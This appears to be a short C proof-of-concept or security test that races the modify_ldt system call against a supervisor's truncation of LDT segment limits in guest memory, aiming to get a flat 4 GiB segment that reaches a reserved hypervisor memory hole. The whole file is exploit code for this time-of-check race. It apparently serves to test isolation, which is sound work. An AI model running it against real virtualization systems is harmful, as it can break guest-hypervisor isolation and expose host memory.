/* ldt_desc_race: modify_ldt(1) of a flat LDT entry while another thread keeps putting the flat limit
 * back into the struct the supervisor truncates in guest memory before the kernel reads it. Prints HOLE
 * REACHED if an untruncated LDT entry reaches the hypervisor hole. */
#define _GNU_SOURCE
#include <asm/ldt.h>
#include <pthread.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "hole.h"

static struct user_desc d;
static volatile int stop;

static void *restore_flat_limit(void *unused)
{
    volatile unsigned *limit = &d.limit;
    (void)unused;
    while (!stop) *limit = 0xFFFFF;
    return NULL;
}

int main(void)
{
    if (map_hole()) return 1;
    memset(&d, 0, sizeof d);
    d.entry_number = 0; d.limit = 0xFFFFF; d.seg_32bit = 1; d.limit_in_pages = 1; d.useable = 1;
    pthread_t th;
    pthread_create(&th, NULL, restore_flat_limit, NULL);
    for (int i = 0; i < 5000; i++) {
        d.limit = 0xFFFFF;
        if (syscall(SYS_modify_ldt, 1, &d, sizeof d) < 0) continue;
        if (reaches_everything(0x7)) {
            printf("attempt %d: LDT 0 reaches 4 GiB; read %#x at 0xFC000000: HOLE REACHED\n", i,
                   read_hole_through(0x7));
            stop = 1;
            return 0;
        }
    }
    stop = 1;
    printf("no hole\n");
    return 0;
}
